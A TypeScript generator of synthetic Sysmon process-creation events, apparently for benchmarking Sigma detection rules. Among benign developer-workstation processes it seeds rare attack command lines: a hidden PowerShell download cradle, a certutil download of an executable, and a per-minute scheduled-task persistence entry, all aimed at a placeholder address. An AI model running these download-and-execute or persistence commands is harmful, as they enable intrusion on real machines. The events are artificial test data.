import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/**
 * Sysmon-like process-creation events as NDJSON in Sigma field names, about 1 KB each, in two
 * mixes:
 * - `stress`: images, parents and arguments paired independently, so that LOLBins meet odd
 *   parents and arguments (`whoami.exe` from `services.exe`, `rundll32.exe /all`): with the
 *   SigmaHQ process_creation rules 38% of the events alert. A worst case for the engine.
 * - `workstation`: each image with the parents and arguments it has on a developer
 *   workstation (svchost from services.exe with `-k …`, conhost from its shell, npm's node
 *   from cmd.exe); one event in 250 is an attack command line. Alert rates near production.
 *
 * Both mixes give each binary hashes of its own, and the workstation mix gives some command
 * lines a per-process part (a renderer's client id, a server's port), as real telemetry has:
 * values repeated verbatim would flatter per-value caches. GENERATOR_VERSION is part of the
 * data file names, so that a change here regenerates the files instead of reusing stale ones.
 */
export const GENERATOR_VERSION = 2;
const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\conhost.exe', 'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Program Files\\nodejs\\node.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Program Files\\Git\\cmd\\git.exe', 'C:\\Python311\\python.exe', 'C:\\Windows\\System32\\certutil.exe',
  'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\schtasks.exe', 'C:\\Windows\\System32\\whoami.exe',
  'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\System32\\net.exe',
];
const PARENTS = [
  'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\services.exe', 'C:\\Program Files\\nodejs\\node.exe',
  'C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\nodejs\\npm.cmd', 'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'C:\\Python311\\python.exe',
];
const BENIGN_ARGS = [
  '', ' /d /s /c "node-gyp rebuild"', ' -k netsvcs -p -s Schedule', ' --type=renderer --lang=en-US --field-trial-handle=1732',
  ' /all', ' install --no-audit --no-fund', ' query HKLM\\Software\\Microsoft', ' status --porcelain', ' -m pip install requests',
  ' --no-sandbox --disable-gpu', ' /c dir', ' -NoProfile -File C:\\scripts\\build.ps1',
];
/** About one event in 250 carries one of these, as attacks are rare in real telemetry. */
const SUSPICIOUS_ARGS = [
  ' -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
  ' -urlcache -split -f http://203.0.113.7/p.exe p.exe', ' /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute',
];

function pick<T>(xs: T[], n: number): T {
  return xs[n % xs.length]!;
}

export type Mix = 'stress' | 'workstation';

/** Image, parent image and arguments of a developer workstation's processes. */
const PROFILES: Array<{ image: string; parents: string[]; args: string[] }> = [
  { image: 'C:\\Windows\\System32\\svchost.exe', parents: ['C:\\Windows\\System32\\services.exe'], args: [' -k netsvcs -p -s Schedule', ' -k LocalService -p -s EventSystem', ' -k DcomLaunch -p'] },
  { image: 'C:\\Windows\\System32\\conhost.exe', parents: ['C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\nodejs\\node.exe'], args: [' 0xffffffff -ForceV1'] },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', parents: ['C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'], args: [' --type=renderer --lang=en-US --field-trial-handle=1732 --renderer-client-id=#', ' --type=utility --utility-sub-type=network.mojom.NetworkService'] },
  { image: 'C:\\Windows\\System32\\cmd.exe', parents: ['C:\\Program Files\\nodejs\\node.exe', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'], args: [' /d /s /c "node-gyp rebuild"', ' /d /s /c "tsc -p tsconfig.json"'] },
  { image: 'C:\\Program Files\\nodejs\\node.exe', parents: ['C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'], args: [' "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install --no-audit --no-fund', ' server.js --port #'] },
  { image: 'C:\\Program Files\\Git\\cmd\\git.exe', parents: ['C:\\Program Files\\Microsoft VS Code\\Code.exe'], args: [' status --porcelain', ' fetch origin --prune'] },
  { image: 'C:\\Python311\\python.exe', parents: ['C:\\Windows\\System32\\cmd.exe'], args: [' -m pytest tests', ' manage.py runserver'] },
  { image: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', parents: ['C:\\Windows\\explorer.exe'], args: ['', ' --type=renderer --enable-crash-reporter --renderer-client-id=#'] },
  { image: 'C:\\Windows\\System32\\taskhostw.exe', parents: ['C:\\Windows\\System32\\svchost.exe'], args: [' KEYROAMING', ''] },
  { image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', parents: ['C:\\Windows\\System32\\svchost.exe'], args: [' -secured -Embedding'] },
  { image: 'C:\\Windows\\System32\\msiexec.exe', parents: ['C:\\Windows\\System32\\services.exe'], args: [' /V'] },
  { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', parents: ['C:\\Windows\\explorer.exe'], args: [' -NoProfile -File C:\\scripts\\build.ps1'] },
];
/** The attack command lines of the workstation mix, with the image that runs them. */
const ATTACKS: Array<{ image: string; args: string }> = [
  { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: SUSPICIOUS_ARGS[0]! },
  { image: 'C:\\Windows\\System32\\certutil.exe', args: SUSPICIOUS_ARGS[1]! },
  { image: 'C:\\Windows\\System32\\schtasks.exe', args: SUSPICIOUS_ARGS[2]! },
  { image: 'C:\\Windows\\System32\\whoami.exe', args: ' /all' },
];

function stressProcess(i: number): { image: string; parent: string; args: string } {
  const image = pick(IMAGES, i * 7 + (i >> 5));
  return {
    image,
    parent: pick(PARENTS, i * 13 + (i >> 3)),
    args: i % 250 === 17 ? pick(SUSPICIOUS_ARGS, i >> 8) : pick(BENIGN_ARGS, i * 3 + (i >> 7)),
  };
}

function workstationProcess(i: number): { image: string; parent: string; args: string } {
  if (i % 250 === 17) {
    const attack = pick(ATTACKS, i >> 8);
    return { image: attack.image, parent: 'C:\\Program Files\\nodejs\\node.exe', args: attack.args };
  }
  const p = pick(PROFILES, i * 7 + (i >> 5));
  // `#`: the per-process part of a command line (a client id, a port).
  return { image: p.image, parent: pick(p.parents, i >> 3), args: pick(p.args, i >> 4).replace('#', String(3000 + (i % 4093))) };
}

/** Sysmon's Hashes value for a binary: stable per image, different between images. */
function hashesOf(image: string): string {
  let h = 0x811c9dc5;
  for (let i = 0; i < image.length; i++) h = Math.imul(h ^ image.charCodeAt(i), 0x01000193) >>> 0;
  const hex = (n: number) => {
    let out = '';
    for (let k = 0; out.length < n; k++) out += (Math.imul(h ^ k, 0x9e3779b1) >>> 0).toString(16).toUpperCase().padStart(8, '0');
    return out.slice(0, n);
  };
  return `SHA1=${hex(40)},MD5=${hex(32).split('').reverse().join('')},SHA256=${hex(64)},IMPHASH=${hex(40).slice(8)}`;
}

export function sysmonProcessCreation(i: number, mix: Mix = 'stress'): Record<string, unknown> {
  const { image, parent, args } = mix === 'stress' ? stressProcess(i) : workstationProcess(i);
  const exe = image.slice(image.lastIndexOf('\\') + 1);
  const t = new Date(Date.UTC(2026, 10, 27, 0, 0, 0) + i * 37).toISOString().replace('T', ' ').slice(0, 23);
  const guid = (n: number) => `{5f1c2a10-${(n & 0xffff).toString(16).padStart(4, '0')}-6747-0a00-0000000${(n % 100000).toString().padStart(5, '0')}}`;
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: `WS-${(i % 500).toString().padStart(4, '0')}.corp.example.com`,
    RuleName: '-',
    UtcTime: t,
    ProcessGuid: guid(i),
    ProcessId: 1000 + (i % 60000),
    Image: image,
    FileVersion: '10.0.22621.1 (WinBuild.160101.0800)',
    Description: `${exe} application`,
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: exe.toUpperCase(),
    CommandLine: `"${image}"${args}`,
    CurrentDirectory: 'C:\\Users\\dev\\source\\repos\\app\\',
    User: 'CORP\\dev',
    LogonGuid: '{5f1c2a10-1a2b-6747-ad0c-1a0000000000}',
    LogonId: '0x1a0cad',
    TerminalSessionId: 1,
    IntegrityLevel: 'Medium',
    Hashes: hashesOf(image),
    ParentProcessGuid: guid(i >> 1),
    ParentProcessId: 900 + (i % 50000),
    ParentImage: parent,
    ParentCommandLine: `"${parent}" --parent-arg ${i % 97}`,
    ParentUser: 'CORP\\dev',
  };
}

export async function writeEvents(path: string, count: number, mix: Mix = 'stress'): Promise<number> {
  const out = createWriteStream(path);
  let bytes = 0;
  let chunk = '';
  for (let i = 0; i < count; i += 1) {
    chunk += JSON.stringify(sysmonProcessCreation(i, mix)) + '\n';
    if (chunk.length > 1 << 20) {
      bytes += chunk.length;
      if (!out.write(chunk)) await once(out, 'drain');
      chunk = '';
    }
  }
  bytes += chunk.length;
  out.end(chunk);
  await once(out, 'finish');
  return bytes;
}
